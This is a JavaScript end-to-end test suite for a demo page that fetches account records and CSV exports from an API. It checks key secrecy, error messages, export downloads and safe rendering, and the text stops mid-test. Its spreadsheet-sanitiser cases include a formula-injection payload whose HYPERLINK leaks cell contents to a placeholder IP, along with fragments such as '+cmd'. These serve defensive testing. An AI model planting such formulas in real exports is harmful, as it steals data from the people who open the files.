// End-to-end tests of the demo page (www/) in a real browser against a live sandbox.
//
//   node tests/e2e/demo.test.mjs chromium|firefox
//
// Needs DEMO_URL and API_URL (a sandbox started with --test-control and, for the proxy test,
// --upstream); `cargo xtask test` sets them. Screenshots of each main state go to target/e2e/.
// Prints one line per test and a closing `test result:` line in cargo's format. E2E_ONLY=<text>
// runs only the tests whose name contains it (while working on them; xtask never sets it).

import { mkdirSync, readFileSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import { dirname, extname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { setTimeout as sleep } from "node:timers/promises";
import assert from "node:assert/strict";

import { launchChromium, launchFirefox } from "./browsers.mjs";

const ROOT = join(dirname(fileURLToPath(import.meta.url)), "../..");
const BROWSER = process.argv[2];
const DEMO = process.env.DEMO_URL;
const API = process.env.API_URL;
if (!DEMO || !API || !["chromium", "firefox"].includes(BROWSER)) {
  console.error("usage: DEMO_URL=… API_URL=… node tests/e2e/demo.test.mjs chromium|firefox");
  process.exit(2);
}
const OUT = join(ROOT, "target/e2e");
const DOWNLOADS = join(OUT, `downloads-${BROWSER}`);
mkdirSync(OUT, { recursive: true });
rmSync(DOWNLOADS, { recursive: true, force: true });

/** One of the page's own modules, loaded in Node (they hold no DOM code). */
async function pageModule(name) {
  const source = readFileSync(join(ROOT, "www", name), "utf8");
  return import(`data:text/javascript,${encodeURIComponent(source)}`);
}
const { spreadsheetSafe, startsLikeFormula } = await pageModule("spreadsheet.js");
const { parseCsv } = await pageModule("csv.js");

// ---- The sandbox ----------------------------------------------------------------------------

async function json(url, init) {
  const response = await fetch(url, init);
  assert.ok(response.ok, `${init?.method ?? "GET"} ${new URL(url).pathname}: HTTP ${response.status}`);
  return response.json();
}

const postJson = (url, body) =>
  json(url, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });

/** A fresh test session of `account`: its key (a canary: it must never show up) and counters. */
async function session(account, overrides = {}) {
  const { key, session: id } = await postJson(`${API}/__sandbox/keys`, { account, ...overrides });
  canaries.add(key);
  return {
    key,
    report: () => json(`${API}/__sandbox/sessions/${id}`),
    count: async (route) => (await json(`${API}/__sandbox/sessions/${id}`)).requests[route] ?? 0,
    faults: (faults) => postJson(`${API}/__sandbox/faults`, { session: id, faults }),
  };
}

/** The record the API gives a key, fetched directly (not through the page). */
async function apiUser(key) {
  return json(`${API}/user`, { headers: { authorization: `Bearer ${key}` } });
}

/** An export fetched directly (not through the page): the API's exact bytes. */
async function apiExport(key, kind) {
  const headers = { authorization: `Bearer ${key}`, "content-type": "application/json" };
  const id = await json(`${API}/file/${kind}`, { method: "POST", headers });
  for (let attempt = 0; attempt < 100; attempt += 1) {
    const response = await fetch(`${API}/file/link/${id}`, { headers });
    if (response.ok) return Buffer.from(await response.arrayBuffer());
    await sleep(100);
  }
  throw new Error(`the ${kind} export never became ready`);
}

const cspReports = async () => (await json(`${DEMO}/__sandbox/csp-reports`)).reports;
const proxyRequests = () => json(`${DEMO}/__sandbox/proxy-requests`);

/** Cells of `text` (RFC 4180), every row. */
const cells = (text) => parseCsv(text).rows;

// ---- The runner ------------------------------------------------------------------------------

const tests = [];
const test = (name, body) => tests.push({ name, body });

const canaries = new Set();
const browser = await (BROWSER === "chromium" ? launchChromium : launchFirefox)({ downloads: DOWNLOADS });
const shot = (state) => browser.screenshot(join(OUT, `${BROWSER}-${state}.png`));

const ready = () => browser.waitFor(() => document.documentElement.hasAttribute("data-ready"), undefined, 15000, "the page to start");

/** Opens the demo page and waits until its module is ready. */
async function open() {
  await browser.goto(DEMO);
  await ready();
}

/** Pastes `text` into the key field and fetches the record; waits for the record or an error. */
async function fetchRecord(text) {
  await browser.fill("#api-key", text);
  await browser.click("#fetch-user");
  await browser.waitFor(
    () => document.querySelector("#record .profile") !== null || !document.querySelector("#error").hidden,
    undefined,
    10000,
    "the record or an error",
  );
}

/** What a stack trace shows: a `file.js:line`, a V8 frame (`at f (`) or a wasm frame. */
const STACK_LIKE = /\.(m?js|rs|wasm):\d+|^\s*at \S|wasm-function\[/m;

/** The error the page shows, once shown, checked to hold no stack trace and no key. */
async function shownError(what) {
  await browser.waitShown("#error");
  const message = await text("#error");
  assert.doesNotMatch(message, STACK_LIKE, `${what}: the error shows a stack trace`);
  assert.ok(![...canaries].some((key) => message.includes(key)), `${what}: the error shows a key`);
  return message;
}

/** Runs an export of `kind` from the page and waits for its result. */
async function exportFromPage(kind) {
  await browser.click(`[data-export="${kind}"]`);
  await browser.waitShown("#export-result", 15000);
}

const text = (selector) => browser.evaluate((s) => document.querySelector(s)?.textContent ?? null, selector);
const shown = (selector) =>
  browser.evaluate((s) => {
    const element = document.querySelector(s);
    return element !== null && element.getClientRects().length > 0;
  }, selector);
const hrefs = () =>
  browser.evaluate(() => ["#csv-download", "#csv-download-raw"].map((s) => document.querySelector(s)?.getAttribute("href") ?? null));

/** Each link of the record: its `href` and the words of its `rel`. */
const recordLinks = () =>
  browser.evaluate(() => [...document.querySelectorAll("#record a")].map((a) => ({ href: a.getAttribute("href"), rel: a.rel.split(/\s+/) })));

/** Everything the page could leak the key into, read from the page. */
const pageState = () =>
  browser.evaluate(() => ({
    url: location.href,
    cookie: document.cookie,
    local: JSON.stringify({ ...localStorage }),
    session: JSON.stringify({ ...sessionStorage }),
    title: document.title,
    body: document.body.innerText,
  }));

/** Waits (at most `ms`) until `check()` is truthy; returns its last value. */
async function eventually(check, ms) {
  const deadline = Date.now() + ms;
  for (;;) {
    const value = await check();
    if (value || Date.now() > deadline) return value;
    await sleep(100);
  }
}

/** How long the absence checks wait; the positive controls show it is long enough. */
const SETTLE_MS = 2000;

/** Where the deliberate CSP violations (positive controls) point (TEST-NET-3: nothing there). */
const PROBE_HOST = "203.0.113.9";

// ---- The tests ---------------------------------------------------------------------------------

/** The record's `<dt>` → `<dd>` texts (a name shown twice keeps its first value). */
async function recordFields() {
  const pairs = await browser.evaluate(() =>
    [...document.querySelectorAll("#record dl.fields dt")].map((dt) => [dt.textContent, dt.nextElementSibling.textContent]),
  );
  const fields = new Map();
  for (const [name, value] of pairs) if (!fields.has(name)) fields.set(name, value);
  return fields;
}

test("spreadsheet.js: formula cells get a ', nothing else changes (Node unit cases)", async () => {
  const cases = [
    ["a,b\r\n", "a,b\r\n", 0],
    ["=1+1,b\r\n", "'=1+1,b\r\n", 1],
    ['x,"=HYPERLINK(""http://203.0.113.7/?leak=""&A1)"\r\n', `x,"'=HYPERLINK(""http://203.0.113.7/?leak=""&A1)"\r\n`, 1],
    ['-5,+3,1e-3,-2+3,@SUM(1),\tx,"\rx"\n', `-5,+3,1e-3,'-2+3,'@SUM(1),'\tx,"'\rx"\n`, 4],
    ["", "", 0],
    ["=a", "'=a", 1],
    // Plain numbers, signed and decimal, are left alone; an expression or a second sign is not.
    ["-12.5,+0.5,-1.5E+3,-12.5.1,--1,+-1\n", "-12.5,+0.5,-1.5E+3,'-12.5.1,'--1,'+-1\n", 3],
    ['a,\r\n,"=b",', `a,\r\n,"'=b",`, 1],
    ['"a,=b","c\r\n=d"\r\n', '"a,=b","c\r\n=d"\r\n', 0],
  ];
  for (const [input, expected, neutralized] of cases) {
    assert.deepEqual(spreadsheetSafe(input), { text: expected, neutralized }, JSON.stringify(input));
  }
  // Property: for random cells written as RFC 4180, the safe file parses to the same cells,
  // each prefixed with ' exactly when it starts like a formula.
  let seed = 42;
  const random = (n) => {
    seed = (seed * 1103515245 + 12345) % 2147483648;
    return seed % n;
  };
  const alphabet = ["=", "+", "-", "@", "\t", "\r", "\n", '"', ",", "a", "1", ".", " ", "é"];
  const quote = (cell) => (/[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);
  for (let round = 0; round < 500; round += 1) {
    const rows = Array.from({ length: 1 + random(4) }, () =>
      Array.from({ length: 1 + random(4) }, () => Array.from({ length: 1 + random(6) }, () => alphabet[random(alphabet.length)]).join("")),
    );
    const input = `${rows.map((row) => row.map(quote).join(",")).join("\r\n")}\r\n`;
    const safe = spreadsheetSafe(input);
    const expected = rows.map((row) => row.map((cell) => (startsLikeFormula(cell) ? `'${cell}` : cell)));
    assert.deepEqual(cells(safe.text), expected, JSON.stringify(input));
    assert.equal(safe.neutralized, rows.flat().filter(startsLikeFormula).length);
  }
});

test("the sandbox README's table of demo keys is what the sandbox serves, in order", async () => {
  const readme = readFileSync(join(ROOT, "sandbox/README.md"), "utf8");
  const start = readme.indexOf("## Demo keys");
  assert.ok(start >= 0, "sandbox/README.md has a Demo keys section");
  const end = readme.indexOf("\n## ", start + 1);
  const section = readme.slice(start, end < 0 ? undefined : end);
  const table = [...section.matchAll(/^\| (.+?) \| `([^`]+)` \|$/gm)].map(([, label, key]) => ({ label, key }));
  const served = (await json(`${DEMO}/sandbox.json`)).demoKeys.map(({ label, key }) => ({ label, key }));
  for (const { key } of [...table, ...served]) canaries.add(key);
  assert.equal(served.length, 3, "positive control: the sandbox serves its three demo keys");
  assert.deepEqual(table, served);
});

test("the creator's record: profile, pool card and raw JSON, from a pasted `Bearer` key", async () => {
  const creator = await session("creator");
  const expected = await apiUser(creator.key);
  const firstRequest = browser.requests.length;
  await open();
  await fetchRecord(`  Bearer ${creator.key}\n`);
  assert.equal(await text("#error strong"), null, "no error");
  assert.equal(await text("#record .username").then((t) => t.startsWith(expected.Username)), true);
  assert.equal(await text("#record .pool-name"), expected.OwnedPool.Name);
  assert.equal(await text("#record .pubkey"), expected.Pubkey);
  const raw = JSON.parse(await text("#record pre.json"));
  assert.deepEqual(raw, expected, "the raw JSON is the API's record");
  // The profile's and the pool's fields, each shown as the record has it.
  const shownFields = await recordFields();
  assert.equal(shownFields.get("Role"), expected.Role);
  assert.equal(shownFields.get("E-mail auto-subscriptions"), expected.EnabledEmailAutoSubs ? "Yes" : "No");
  assert.equal(shownFields.get("Contact e-mail"), expected.OwnedPool.Email);
  assert.equal(shownFields.get("Collects e-mails"), expected.OwnedPool.CollectEmails ? "Yes" : "No");
  assert.equal(shownFields.get("Shown on the Hub"), expected.OwnedPool.DisplayFE ? "Yes" : "No");
  assert.equal(shownFields.get("Owner wallet"), expected.OwnedPool.UserPubkey);
  assert.equal(await text("#record .pool-benefits"), expected.OwnedPool.Benefits);
  assert.equal(await text("#record .pool-description"), expected.OwnedPool.Description);
  // The pool's images come from the sandbox (http: on loopback, as the chosen API) and load.
  await browser.waitFor(
    () => [...document.querySelectorAll("#record img")].length === 3 && [...document.querySelectorAll("#record img")].every((i) => i.complete && i.naturalWidth > 0),
    undefined,
    10000,
    "the pool's three images to load",
  );
  // Dates are shown in the reader's locale, with the RFC 3339 value kept as machine-readable.
  const times = await browser.evaluate(() => [...document.querySelectorAll("#record time")].map((t) => t.getAttribute("datetime")));
  assert.ok(times.includes(expected.CreatedAt));
  assert.equal(await browser.evaluate(() => document.querySelector("#decoded").hidden), false, "the key is decoded next to the field");
  assert.match(await text("#decoded-claims"), /"sub"/);
  assert.equal(await creator.count("GET /user"), 2); // ours and the page's
  // Links open without giving the other site a handle on this page or a referrer.
  const links = await recordLinks();
  assert.ok(links.length > 0, "positive control: the record has links");
  for (const { href, rel } of links) assert.ok(rel.includes("noopener") && rel.includes("noreferrer"), `${href}: rel ${rel}`);
  // Every request the page made, from opening to the images, went to the demo server or the
  // API: none to a third party. (`data:` and `blob:` URLs reach no one; Firefox reports a
  // `data:` font here.)
  const requests = browser.requests.slice(firstRequest).filter((url) => /^(https?|wss?):/.test(url));
  assert.ok(requests.includes(`${API}/user`) && requests.includes(`${DEMO}/sandbox.json`), `positive control: requests are seen: ${requests}`);
  assert.ok(requests.includes(expected.OwnedPool.HeroImageURL), `positive control: image requests are seen: ${requests}`);
  const origins = new Set([new URL(DEMO).origin, new URL(API).origin]);
  assert.deepEqual(requests.filter((url) => !origins.has(new URL(url).origin)), [], "requests to a third party");
  // The copy buttons put the wallet address and the raw JSON on the clipboard.
  const clipboard = () => browser.evaluate(() => navigator.clipboard.readText());
  await browser.click('#record button[aria-label="Copy wallet address"]');
  await browser.waitFor(
    () => document.querySelector('#record button[aria-label="Copy wallet address"]').textContent !== "Copy",
    undefined,
    5000,
    "the copy button to answer",
  );
  assert.equal(await text('#record button[aria-label="Copy wallet address"]'), "Copied");
  assert.equal(await clipboard(), expected.Pubkey);
  await browser.click("#record details.raw summary");
  await browser.click('#record button[aria-label="Copy raw JSON"]');
  assert.deepEqual(JSON.parse(await clipboard()), expected);
  await shot("creator-record");
});

test("the key's warnings are always visible; the proxy choice says where the key goes", async () => {
  await open();
  assert.equal(await browser.evaluate(() => document.querySelector("#api-key").value), "");
  assert.ok(await shown("#key-warning"), "the warning is shown before any key is pasted");
  const warning = await text("#key-warning");
  assert.match(warning, /never expires/);
  assert.match(warning, /If it may have leaked, treat it as compromised/);
  assert.match(warning, /issued in the Creator\s+Dashboard/);
  // The API's docs say nothing about revoking a key: the page claims no way to do it.
  assert.match(warning, /does not describe revoking one/);
  assert.doesNotMatch(warning, /\brevoke[sd]?\b/i);
  assert.ok(await shown("#remember-help"));
  assert.match(await text("#remember-help"), /write it to disk/);
  assert.equal(await shown("#proxy-note"), false, "no proxy note for the sandbox");
  await browser.click('#api-proxy-choice input[value="proxy"]');
  assert.ok(await shown("#proxy-note"));
  assert.match(await text("#proxy-note"), /passes through the demo server\s+process/);
  assert.match(await text("#proxy-note"), /does not store or log it/);
  await browser.click('input[name="api"][value="production"]');
  assert.equal(await shown("#proxy-note"), false);
});

test("a user without a pool, from a custom base URL: the 'no pool' state, and exports are forbidden", async () => {
  const user = await session("user");
  await open();
  assert.equal(await shown("#custom-base-url"), false);
  await browser.click('input[name="api"][value="custom"]');
  assert.ok(await shown("#custom-base-url"), "the custom base URL field is shown");
  // The field's value is what the page calls: a malformed one is refused before any request.
  await browser.fill("#custom-base-url", "not a URL");
  await fetchRecord(user.key);
  assert.match(await shownError("malformed base URL"), /Check the settings/);
  assert.equal(await user.count("GET /user"), 0);
  await browser.fill("#custom-base-url", API);
  await fetchRecord(user.key);
  assert.equal(await user.count("GET /user"), 1, "the page called the custom base URL");
  await browser.waitShown("#record .no-pool");
  assert.equal(await browser.evaluate(() => document.querySelector("#record .pool")), null);
  // Flags read "No" where the record says false (the creator's are all true).
  const expected = await apiUser(user.key);
  assert.equal(expected.EnabledEmailAutoSubs, false, "positive control: this account's flag is false");
  assert.equal((await recordFields()).get("E-mail auto-subscriptions"), "No");
  assert.equal((await recordFields()).get("Role"), expected.Role);
  await browser.click('[data-export="emails"]');
  assert.match(await shownError("forbidden"), /may not do that/);
  await shot("no-pool");
});

test("a rejected key says so, and never shows the key", async () => {
  const creator = await session("creator");
  const parts = creator.key.split(".");
  const forged = `${parts[0]}.${parts[1]}.${"A".repeat(43)}`;
  canaries.add(forged);
  await open();
  await fetchRecord(forged);
  assert.match(await shownError("rejected key"), /rejected this key/);
  assert.equal(await text("#record .profile"), null);
  await shot("rejected-key");
  const notAKey = "not a key at all";
  await fetchRecord(notAKey);
  assert.match(await shownError("not a key"), /not an API key/);
});

test("errors say what to do: the wait when rate limited, the server's status, the CORS explanation; never a stack", async () => {
  const creator = await session("creator");
  const record = await apiUser(creator.key);
  await open();
  // Positive control: the stack of a real error of the package, in this browser, is recognised.
  const stack = await browser.evaluate(async () => {
    const { AccessClient } = await import("/pkg/index.js");
    try {
      new AccessClient("not a key");
    } catch (error) {
      return String(error.stack);
    }
    return "";
  });
  assert.match(stack, STACK_LIKE, "positive control: a real stack trace is recognised");

  // Rate limited, for longer than the client waits (10 s): no retry, and the page says how long.
  await creator.faults([{ path: "/user", status: 429, retry_after: "120" }]);
  await fetchRecord(creator.key);
  let message = await shownError("rate limited");
  assert.match(message, /Too many requests/);
  assert.match(message, /wait 120 s/);
  assert.equal(await creator.count("GET /user"), 2, "one request (after ours), not retried");

  // A server error on the first attempt and both retries.
  await creator.faults([{ path: "/user", status: 503, times: 3 }]);
  await fetchRecord(creator.key);
  message = await shownError("server error");
  assert.match(message, /HTTP 503/);
  assert.equal(await creator.count("GET /user"), 5, "three requests: the retries were used up");
  assert.equal((await creator.report()).pending_faults, 0);

  // A network failure: the production API (a stand-in the browser answers with) allows only
  // another origin, as an API that refuses calls from this page would. The browser refuses its
  // answer (and its preflight's), and the page explains. (Playwright would add a missing
  // Access-Control-Allow-Origin to a stand-in's answer, never replace one.)
  await browser.mock("https://go-api.accessprotocol.co/user", {
    status: 200,
    headers: {
      "content-type": "application/json",
      "access-control-allow-origin": "https://hub.accessprotocol.co",
      "access-control-allow-headers": "authorization, content-type",
    },
    body: JSON.stringify(record),
  });
  try {
    await browser.click('input[name="api"][value="production"]');
    await fetchRecord(creator.key);
    message = await shownError("network failure");
    assert.match(message, /Could not reach the API/);
    assert.match(message, /refused calls from this page's origin \(CORS\)/);
    assert.match(message, /local proxy/);
    assert.equal(await text("#record .profile"), null, "the answer the browser refused is not shown");
  } finally {
    await browser.unmock("https://go-api.accessprotocol.co/user");
  }
  await shot("error-network");
});

test("an API that does not answer within the call's 30 s deadline: the page says so", async () => {
  const creator = await session("creator");
  await creator.faults([{ path: "/user", delay_ms: 40000 }]);
  await open();
  const started = Date.now();
  await browser.fill("#api-key", creator.key);
  await browser.click("#fetch-user");
  await browser.waitFor(() => !document.querySelector("#error").hidden, undefined, 40000, "the timeout");
  const elapsed = Date.now() - started;
  assert.ok(elapsed >= 29000 && elapsed < 38000, `the deadline is the client's 30 s: ${elapsed} ms`);
  const message = await shownError("timeout");
  assert.match(message, /did not answer in time/);
  assert.equal(await creator.count("GET /user"), 1, "one request, held by the sandbox");
});

for (const kind of ["emails", "supporters", "rewards"]) {
  test(`the ${kind} export: phases, preview, row count, and both downloads`, async () => {
    const creator = await session("creator");
    await open();
    await fetchRecord(creator.key);
    await exportFromPage(kind);
    assert.equal(await text("#export-status"), "Done.");
    const rows = Number((await text("#row-count")).split(" ")[0]);
    assert.ok(rows > 0);
    const api = await apiExport(creator.key, kind);
    const raw = await browser.download("#csv-download-raw");
    assert.match(raw.name, new RegExp(`^access-${kind}-\\d{4}-\\d{2}-\\d{2}-raw\\.csv$`));
    assert.ok(raw.bytes.equals(api), "the raw download is byte for byte the API's answer");
    const safe = await browser.download("#csv-download");
    assert.match(safe.name, new RegExp(`^access-${kind}-\\d{4}-\\d{2}-\\d{2}\\.csv$`));
    // The creator's rows hold no formula: the safe file is the same bytes, and says so.
    assert.ok(safe.bytes.equals(api));
    assert.match(await text("#formula-count"), /No cell of this file starts like a formula/);
    // The preview is the file's: same header, as many rows as the page counted.
    const header = await browser.evaluate(() => [...document.querySelectorAll("#csv-preview th")].map((th) => th.textContent));
    assert.deepEqual(header, cells(raw.text)[0]);
    assert.equal(cells(raw.text).length - 1, rows);
    const previewRows = await browser.evaluate(() => document.querySelectorAll("#csv-preview tbody tr").length);
    assert.equal(previewRows, Math.min(rows, 20));
    assert.equal(await creator.count(`POST /file/${kind}`), 2); // the page's and ours
    if (kind === "supporters") await shot("export-done");
  });
}

test("a hostile export: the default download neutralises every formula, the raw one is the API's", async () => {
  const hostile = await session("hostile");
  await open();
  await fetchRecord(hostile.key);
  await exportFromPage("supporters");
  const api = await apiExport(hostile.key, "supporters");
  const raw = await browser.download("#csv-download-raw");
  assert.ok(raw.bytes.equals(api), "the raw download is byte for byte the API's answer");
  const safe = await browser.download("#csv-download");
  const rawCells = cells(raw.text);
  const safeCells = cells(safe.text);
  const formulas = rawCells.flat().filter(startsLikeFormula);
  assert.ok(formulas.length >= 4, `the hostile rows hold formulas: ${formulas}`);
  // Every cell that would run gets a ', every other cell is untouched, and no cell of the
  // safe file starts like a formula.
  assert.deepEqual(
    safeCells,
    rawCells.map((row) => row.map((cell) => (startsLikeFormula(cell) ? `'${cell}` : cell))),
  );
  assert.deepEqual(safeCells.flat().filter(startsLikeFormula), []);
  for (const payload of ["'=HYPERLINK(", "'-2+3+cmd", "'@SUM(1+1)", "'+SUM(1,2)"]) {
    assert.ok(safe.text.includes(payload), payload);
  }
  assert.equal(safe.text.split("\r\n").length, raw.text.split("\r\n").length, "line ends unchanged");
  assert.match(await text("#formula-count"), new RegExp(`^${formulas.length} cells start like a formula`));
  // The preview marks the formula cells it shows, and only those.
  const marked = await browser.evaluate(() =>
    [...document.querySelectorAll("#csv-preview td")].map((td) => [td.textContent, td.hasAttribute("data-formula")]),
  );
  assert.ok(marked.some(([, formula]) => formula));
  for (const [cell, formula] of marked) assert.equal(formula, startsLikeFormula(cell), cell);
  await shot("export-hostile");
});

test("the raw download is the API's bytes even when they are not valid UTF-8", async () => {
  const creator = await session("creator");
  // The page's first poll of the export gets a CSV with 0xC3 0x28 in its fourth row.
  await creator.faults([{ path: "/file/link", body: "invalid_utf8", times: 2 }]);
  const direct = await fetch(`${API}/file/link/x`, { headers: { authorization: `Bearer ${creator.key}` } });
  const api = Buffer.from(await direct.arrayBuffer());
  assert.throws(() => new TextDecoder("utf-8", { fatal: true }).decode(api), "positive control: not UTF-8");
  await open();
  await fetchRecord(creator.key);
  await exportFromPage("emails");
  const raw = await browser.download("#csv-download-raw");
  assert.ok(raw.bytes.equals(api), "the raw download is byte for byte the API's answer");
  const safe = await browser.download("#csv-download");
  assert.ok(safe.text.includes("Bad \uFFFD( byte"), "the text shown and made safe marks the bad bytes");
});

test("a new key, another API, a failed fetch or 'forget key' never leaves the previous key's data on screen", async () => {
  const creator = await session("creator");
  const cleared = async (what) => {
    assert.equal(await text("#record .profile"), null, `${what}: the record is gone`);
    assert.equal(await shown("#export-result"), false, `${what}: the export result is gone`);
    assert.equal(await browser.evaluate(() => document.querySelectorAll("#csv-preview tr").length), 0, `${what}: the preview is gone`);
    assert.equal(await text("#row-count"), "", what);
    assert.doesNotMatch(await text("#status"), /Record of/, what);
    assert.deepEqual(await hrefs(), [null, null], `${what}: no download link is left`);
  };
  // Which download URLs the page revoked. (Reading a blob: URL from the page to see it fail
  // would itself break the page's CSP, connect-src.)
  const revoked = (urls) => browser.evaluate((list) => list.map((url) => (window.revokedUrls.includes(url) ? "revoked" : "kept")), urls);
  const exported = async () => {
    await fetchRecord(creator.key);
    await exportFromPage("supporters");
    const urls = await hrefs();
    assert.ok(urls.every((url) => url?.startsWith("blob:")), `${urls}`);
    assert.deepEqual(await revoked(urls), ["kept", "kept"]);
    return urls;
  };
  await open();
  await browser.evaluate(() => {
    window.revokedUrls = [];
    const revoke = URL.revokeObjectURL;
    URL.revokeObjectURL = (url) => {
      window.revokedUrls.push(url);
      revoke.call(URL, url);
    };
  });

  // 1. A fetch with the same key fails.
  let urls = await exported();
  await creator.faults([{ path: "/user", status: 500, times: 3 }]);
  await browser.click("#fetch-user");
  await browser.waitShown("#error");
  await cleared("a failed fetch");
  assert.equal(await text("#record"), "No record to show.");
  assert.deepEqual(await revoked(urls), ["revoked", "revoked"]);

  // 2. A wrong key is pasted: cleared at once, before any fetch; then the fetch fails.
  urls = await exported();
  const parts = creator.key.split(".");
  const forged = `${parts[0]}.${parts[1]}.${"B".repeat(43)}`;
  canaries.add(forged);
  await browser.fill("#api-key", forged);
  await cleared("a pasted key");
  assert.deepEqual(await revoked(urls), ["revoked", "revoked"]);
  await browser.click("#fetch-user");
  await browser.waitShown("#error");
  assert.match(await text("#error"), /rejected this key/);
  await cleared("a rejected key");
  assert.equal(await text("#record"), "No record to show.");

  // 3. Another API is chosen: cleared at once, before any fetch.
  urls = await exported();
  await browser.click('input[name="api"][value="production"]');
  await cleared("another API");
  assert.deepEqual(await revoked(urls), ["revoked", "revoked"]);
  await browser.click('input[name="api"][value="sandbox"]');

  // 4. The key is forgotten.
  urls = await exported();
  await browser.click("#forget-key");
  await cleared("a forgotten key");
  assert.deepEqual(await revoked(urls), ["revoked", "revoked"]);
  await shot("cleared");
});

test("cancelling an export mid-poll stops its requests", async () => {
  const creator = await session("creator", { export_delay_ms: 60000 });
  await open();
  await fetchRecord(creator.key);
  await browser.click('[data-export="supporters"]');
  await browser.waitFor(() => /attempt 2/.test(document.querySelector("#export-status").textContent), undefined, 10000, "the second poll");
  await shot("export-waiting");
  await browser.click("#export-cancel");
  await browser.waitFor(() => document.querySelector("#export-status").textContent === "Export cancelled.", undefined, 5000, "the cancellation");
  const polls = await creator.count("GET /file/link");
  assert.ok(polls >= 1, `positive control: the polls before cancelling were counted (${polls})`);
  await sleep(3000); // the page's first poll interval is 1 s, growing by half
  assert.equal(await creator.count("GET /file/link"), polls, "no poll after cancelling");
  // Positive control: the counter still counts, so a late poll would have shown.
  await fetch(`${API}/file/link/x`, { headers: { authorization: `Bearer ${creator.key}` } });
  assert.equal(await creator.count("GET /file/link"), polls + 1);
  assert.equal(await browser.evaluate(() => document.querySelector("#error").hidden), true, "cancelling is not an error");
});

for (const [change, act] of [
  ["another key is pasted", (other) => browser.fill("#api-key", other.key)],
  ["another API is chosen", () => browser.click('input[name="api"][value="production"]')],
  ["'Forget key' is clicked", () => browser.click("#forget-key")],
]) {
  test(`a running export stops when ${change}: no poll after, and nothing of it is shown`, async () => {
    const creator = await session("creator", { export_delay_ms: 60000 });
    const user = await session("user");
    await open();
    await fetchRecord(creator.key);
    await browser.click('[data-export="supporters"]');
    await browser.waitFor(() => /attempt 2/.test(document.querySelector("#export-status").textContent), undefined, 10000, "the second poll");
    await act(user);
    await browser.waitFor(() => !document.querySelector('[data-export="supporters"]').disabled, undefined, 5000, "the export to end");
    const polls = await creator.count("GET /file/link");
    assert.ok(polls >= 1, `positive control: the polls before the change were counted (${polls})`);
    await sleep(3000); // the page's first poll interval is 1 s, growing by half
    assert.equal(await creator.count("GET /file/link"), polls, `no poll after ${change}`);
    // Positive control: the counter still counts, so a late poll would have shown.
    await fetch(`${API}/file/link/x`, { headers: { authorization: `Bearer ${creator.key}` } });
    assert.equal(await creator.count("GET /file/link"), polls + 1);
    assert.equal(await text("#record .profile"), null, "the record is gone");
    assert.equal(await shown("#export-phases"), false, "the stopped export's phases are gone");
    assert.equal(await text("#export-status"), "");
    assert.equal(await shown("#export-cancel"), false);
    assert.equal(await browser.evaluate(() => document.querySelector("#error").hidden), true, "a stopped export is not an error");
  });
}

test("an answer to a request made with an earlier key is dropped, never shown under the new one", async () => {
  const earlier = await session("creator");
  // The new key is another account's (no pool), so its record is told apart from the first's.
  const later = await session("user");
  const expected = await apiUser(later.key);
  await earlier.faults([{ path: "/user", delay_ms: 2000 }]);
  await open();
  await browser.fill("#api-key", earlier.key);
  const started = Date.now();
  await browser.click("#fetch-user");
  await browser.waitFor(() => document.querySelector("#fetch-user").disabled, undefined, 5000, "the first fetch to start");
  await browser.fill("#api-key", later.key);
  // The first request's answer arrives after its delay (the button is enabled once it has
  // been handled); the page must drop it.
  await browser.waitFor(() => !document.querySelector("#fetch-user").disabled, undefined, 10000, "the first fetch to end");
  assert.ok(Date.now() - started >= 1500, "positive control: the sandbox held the first request");
  assert.equal(await earlier.count("GET /user"), 1, "positive control: the first request reached the sandbox");
  assert.equal(await text("#record .profile"), null, "the earlier key's record is not shown");
  assert.doesNotMatch(await text("#status"), /Record of/);
  assert.equal(await browser.evaluate(() => document.querySelector("#error").hidden), true);
  await browser.click("#fetch-user");
  await browser.waitShown("#record .no-pool");
  assert.equal(await browser.evaluate(() => document.querySelector("#record .username").firstChild.textContent), expected.Username);
  assert.equal(await browser.evaluate(() => document.querySelector("#record .pool")), null, "nothing of the earlier key's pool");
  assert.equal(await later.count("GET /user"), 2); // ours and the page's
});

test("hostile strings render as inert text; unsafe URLs are neither links nor images", async () => {
  const hostile = await session("hostile");
  const expected = await apiUser(hostile.key);
  await open();
  // Positive control: a dialog the page opens is seen (and dismissed) in this browser.
  await browser.evaluate(() => {
    setTimeout(() => alert("positive control"), 0);
  });
  assert.ok(await eventually(() => browser.dialogs.includes("positive control"), 5000), `dialogs: ${browser.dialogs}`);
  browser.dialogs.length = 0;
  await fetchRecord(hostile.key);
  await browser.waitShown("#record .pool");
  await sleep(500); // give any injected handler (onerror, onload) the chance to run
  assert.deepEqual(browser.dialogs, [], "no script from the record ran");
  const found = await browser.evaluate(() => ({
    links: [...document.querySelectorAll("#record a")].map((a) => a.getAttribute("href")),
    images: [...document.querySelectorAll("#record img")].map((i) => i.getAttribute("src")),
    scripts: document.querySelectorAll("#record script, #record iframe, #record svg, #record object").length,
    username: document.querySelector("#record .username").firstChild.textContent,
    description: document.querySelector("#record .pool-description")?.textContent,
    website: document.querySelector("#record .unsafe-url")?.textContent,
  }));
  assert.equal(found.scripts, 0);
  for (const { href, rel } of await recordLinks()) assert.ok(rel.includes("noopener") && rel.includes("noreferrer"), `${href}: rel ${rel}`);
  for (const url of [...found.links, ...found.images]) {
    const parsed = new URL(url);
    assert.ok(parsed.protocol === "https:" || (parsed.protocol === "http:" && parsed.hostname === "127.0.0.1"), `unsafe URL rendered: ${url}`);
  }
  assert.equal(found.username, expected.Username, "the username is shown verbatim, as text");
  assert.equal(found.description, expected.OwnedPool.Description);
  assert.equal(found.website, expected.OwnedPool.Website, "the unsafe website is shown as text");
  await shot("hostile-record");
});

test("a production record's http: images stay inert (only a loopback API's are shown)", async () => {
  // This machine cannot reach the real API: the browser answers for it with the sandbox
  // creator's record, whose images are http: on 127.0.0.1.
  const creator = await session("creator");
  const record = await apiUser(creator.key);
  assert.match(record.OwnedPool.HeroImageURL, /^http:\/\/127\.0\.0\.1:/);
  await browser.mock("https://go-api.accessprotocol.co/user", {
    status: 200,
    headers: {
      "content-type": "application/json",
      "access-control-allow-origin": "*",
      "access-control-allow-headers": "authorization, content-type",
    },
    body: JSON.stringify(record),
  });
  await open();
  await browser.click('input[name="api"][value="production"]');
  await fetchRecord(creator.key);
  assert.equal(await text("#error strong"), null, "no error");
  assert.equal(await text("#record .pool-name"), record.OwnedPool.Name, "the record came from the stand-in");
